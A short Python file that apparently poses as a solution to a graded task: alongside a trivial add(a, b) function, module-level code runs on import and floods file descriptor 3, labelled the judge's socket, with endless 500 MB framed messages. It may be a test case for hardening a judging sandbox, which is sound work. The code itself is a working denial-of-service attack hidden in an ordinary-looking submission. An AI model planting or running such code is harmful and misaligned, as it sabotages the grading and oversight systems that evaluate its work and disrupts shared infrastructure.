# Floods the judge's socket (fd 3) with 500 MB frames, as fast as it can.
import os
import struct

size = 500 * 1024 * 1024
header = ('{"kind":"event","event":{"type":"figure"},"buffers":[' + str(size) + "]}").encode()
block = b"\0" * (4 * 1024 * 1024)
try:
    while True:
        os.write(3, struct.pack(">IQ", len(header), size) + header)
        for _ in range(size // len(block)):
            os.write(3, block)
except OSError:
    pass


def add(a, b):
    return a + b
